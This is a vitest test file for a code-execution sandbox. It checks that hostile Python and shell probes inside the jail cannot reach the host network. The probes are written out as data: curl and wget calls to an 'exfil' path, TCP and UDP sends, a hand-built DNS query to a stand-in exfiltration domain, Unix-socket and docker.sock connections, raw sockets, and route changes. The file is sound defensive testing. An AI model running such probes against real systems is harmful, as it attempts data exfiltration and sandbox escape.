/**
 * Hostile code, family: network egress and DNS. The jail has its own network namespace with only
 * a loopback interface, so every attempt must be blocked, and the host listeners opened here (on
 * the host's 127.0.0.1, ::1, abstract and file Unix sockets) must see nothing arrive.
 */
import { createSocket, type Socket as UdpSocket } from 'node:dgram'
import { createServer, type Server } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Sandbox } from '../../src/index.js'
import {
  type Attempt,
  create,
  expectBlocked,
  hostileFamily,
  lit,
  probe,
  py,
  type Shell,
  SMALL,
  token,
} from './helpers.js'

/** A TCP or Unix server on the host that counts who connects. */
async function listen(options: { host?: string; port?: number; path?: string }) {
  const state = { connections: 0, server: undefined as Server | undefined }
  const server = createServer((socket) => {
    state.connections++
    socket.destroy()
  })
  await new Promise<void>((resolve, reject) => {
    server.once('error', reject)
    if (options.path !== undefined) server.listen(options.path, resolve)
    else server.listen(options.port ?? 0, options.host, resolve)
  })
  state.server = server
  const address = server.address()
  return {
    get connections() {
      return state.connections
    },
    port: typeof address === 'object' && address ? address.port : 0,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  }
}

/** A UDP socket on the host that counts datagrams; undefined when the address cannot be bound. */
async function listenUdp(host: string, port = 0) {
  const socket: UdpSocket = createSocket(host.includes(':') ? 'udp6' : 'udp4')
  let datagrams = 0
  socket.on('message', () => datagrams++)
  try {
    await new Promise<void>((resolve, reject) => {
      socket.once('error', reject)
      socket.bind(port, host, resolve)
    })
  } catch {
    socket.close()
    return undefined
  }
  return {
    get datagrams() {
      return datagrams
    },
    port: socket.address().port,
    close: () => new Promise<void>((resolve) => socket.close(() => resolve())),
  }
}

/** Lets a packet that was already on its way arrive: one more round trip to the sandbox. */
const settle = (sandbox: Sandbox) => sandbox.runCode('import time\ntime.sleep(0.2)')

describe('hostile code: network egress and DNS (guard off)', () => {
  hostileFamily()
  let sandbox: Sandbox
  beforeAll(async () => {
    sandbox = await create({ limits: SMALL })
  })
  afterAll(async () => {
    await sandbox?.kill()
  })

  it('blocked: TCP to a server on the host 127.0.0.1, from Python and from curl/wget; nothing arrives', async () => {
    const server = await listen({ host: '127.0.0.1' })
    try {
      const report = await probe<{ python: Attempt; curl: Shell; wget: Shell }>(
        sandbox,
        py`
          import socket
          python = attempt(lambda: socket.create_connection(('127.0.0.1', ${server.port}), timeout=3).send(b'exfil'))
          report(python=python,
                 curl=sh('curl -sS -m 3 http://127.0.0.1:${server.port}/exfil'),
                 wget=sh('wget -q -T 3 -t 1 -O - http://127.0.0.1:${server.port}/exfil'))
        `,
      )
      expectBlocked(report.python, /ConnectionRefusedError|OSError/)
      expect(report.curl.code).not.toBe(0)
      expect(report.wget.code).not.toBe(0)
      await settle(sandbox)
      expect(server.connections).toBe(0)
    } finally {
      await server.close()
    }
  })

  it('blocked: TCP to a server on the host ::1; nothing arrives', async () => {
    let server: Awaited<ReturnType<typeof listen>>
    try {
      server = await listen({ host: '::1' })
    } catch {
      // No IPv6 loopback on this host: the IPv4 case covers TCP.
      return
    }
    try {
      const report = await probe<{ v6: Attempt }>(
        sandbox,
        py`
          import socket
          report(v6=attempt(lambda: socket.create_connection(('::1', ${server.port}), timeout=3).send(b'exfil')))
        `,
      )
      expectBlocked(report.v6)
      await settle(sandbox)
      expect(server.connections).toBe(0)
    } finally {
      await server.close()
    }
  })

  it('blocked: UDP datagrams to the host 127.0.0.1 never arrive', async () => {
    const udp = await listenUdp('127.0.0.1')
    expect(udp).toBeDefined()
    if (!udp) return
    try {
      const report = await probe<{ sent: Attempt }>(
        sandbox,
        py`
          import socket
          def send_all():
              s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
              for i in range(20):
                  s.sendto(b'exfil %d' % i, ('127.0.0.1', ${udp.port}))
          report(sent=attempt(send_all))
        `,
      )
      // sendto may "succeed" (into the jail's own loopback) or fail: either way nothing may arrive.
      expect(report.sent).toBeDefined()
      await settle(sandbox)
      expect(udp.datagrams).toBe(0)
    } finally {
      await udp.close()
    }
  })

  it('blocked: DNS — names do not resolve, and no query reaches a resolver on the host 127.0.0.1:53', async () => {
    // With no resolv.conf, glibc asks 127.0.0.1:53: a jail that shared the host's network would
    // send its queries to this listener (bound only when port 53 is free).
    const dns = await listenUdp('127.0.0.1', 53)
    try {
      const report = await probe<{ resolve: Attempt; resolvConf: boolean; query: Attempt; nss: Shell }>(
        sandbox,
        py`
          import socket
          def query():
              s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
              s.settimeout(2)
              # A DNS query for exfil.example.com, type A.
              packet = bytes.fromhex('abcd01000001000000000000') + b'\\x05exfil\\x07example\\x03com\\x00' + b'\\x00\\x01\\x00\\x01'
              s.sendto(packet, ('127.0.0.1', 53))
              return s.recvfrom(512)
          report(resolve=attempt(socket.getaddrinfo, 'secret-data.exfil.example.com', 443),
                 resolvConf=os.path.exists('/etc/resolv.conf'),
                 query=attempt(query),
                 nss=sh('getent hosts secret-data.exfil.example.com'))
        `,
      )
      expectBlocked(report.resolve, /gaierror/)
      expect(report.resolvConf).toBe(false)
      expectBlocked(report.query)
      expect(report.nss.code).not.toBe(0)
      if (dns) {
        await settle(sandbox)
        expect(dns.datagrams).toBe(0)
      }
    } finally {
      await dns?.close()
    }
  })

  it('blocked: an abstract Unix socket of the host (scoped to the network namespace)', async () => {
    const name = token('analyst-hostile')
    const server = await listen({ path: `\0${name}` })
    try {
      const report = await probe<{ abstract: Attempt }>(
        sandbox,
        py`
          import socket
          def connect():
              s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
              s.connect('\\0' + ${lit(name)})
              s.send(b'exfil')
          report(abstract=attempt(connect))
        `,
      )
      expectBlocked(report.abstract, /ConnectionRefusedError|FileNotFoundError/)
      await settle(sandbox)
      expect(server.connections).toBe(0)
    } finally {
      await server.close()
    }
  })

  it('blocked: a Unix socket file on the host, and the host daemons under /run and /var/run', async () => {
    const path = join(tmpdir(), `${token('analyst-hostile')}.sock`)
    const server = await listen({ path })
    try {
      const report = await probe<{ file: Attempt; run: boolean; varRun: boolean; docker: boolean }>(
        sandbox,
        py`
          import socket
          def connect():
              s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
              s.connect(${lit(path)})
          report(file=attempt(connect), run=os.path.exists('/run'), varRun=os.path.exists('/var/run'),
                 docker=os.path.exists('/var/run/docker.sock'))
        `,
      )
      expectBlocked(report.file, /FileNotFoundError/)
      expect([report.run, report.varRun, report.docker]).toEqual([false, false, false])
      expect(server.connections).toBe(0)
    } finally {
      await server.close()
    }
  })

  it('blocked: only a loopback interface, no route anywhere', async () => {
    const report = await probe<{ interfaces: Array<[number, string]>; routes: string[]; routes6: string }>(
      sandbox,
      py`
        import socket
        routes = open('/proc/net/route').read().strip().split('\\n')[1:]
        report(interfaces=socket.if_nameindex(), routes=routes, routes6=open('/proc/net/ipv6_route').read())
      `,
    )
    expect(report.interfaces.map(([, name]) => name)).toEqual(['lo'])
    expect(report.routes).toEqual([])
    // Only the loopback's own routes, if any.
    for (const line of report.routes6.split('\n').filter(Boolean))
      expect(line.trim().endsWith('lo')).toBe(true)
  })

  it('blocked: raw and packet sockets, and adding an interface or a route', async () => {
    const report = await probe<{ raw: Attempt; packet: Attempt; link: Shell; route: Shell }>(
      sandbox,
      py`
        import socket
        report(raw=attempt(socket.socket, socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
               packet=attempt(socket.socket, socket.AF_PACKET, socket.SOCK_RAW),
               # /usr/sbin/ip, or /bin/ip in a root without merged /usr (bullseye's)
               link=sh('PATH=/usr/sbin:/bin ip link add analyst0 type dummy 2>&1'),
               route=sh('PATH=/usr/sbin:/bin ip route add default dev lo 2>&1'))
      `,
    )
    expectBlocked(report.raw, /PermissionError/)
    expectBlocked(report.packet, /PermissionError/)
    expect(report.link.out).toMatch(/Operation not permitted/)
    expect(report.route.out).toMatch(/Operation not permitted/)
  })

  it('harmless: a nested network namespace (unshare -rn) is just as empty', async () => {
    const report = await probe<{ nested: Shell }>(
      sandbox,
      py`
        report(nested=sh("unshare -rn sh -c 'ls /proc/self/net >/dev/null; cat /proc/net/dev' 2>&1"))
      `,
    )
    // Either nested namespaces are refused, or the new one has nothing but an (unconfigured) loopback.
    if (report.nested.code === 0) {
      const interfaces = report.nested.out
        .split('\n')
        .slice(2)
        .filter(Boolean)
        .map((line) => line.split(':')[0]?.trim())
      expect(interfaces).toEqual(['lo'])
    } else {
      expect(report.nested.out).toMatch(/unshare/)
    }
  })
})
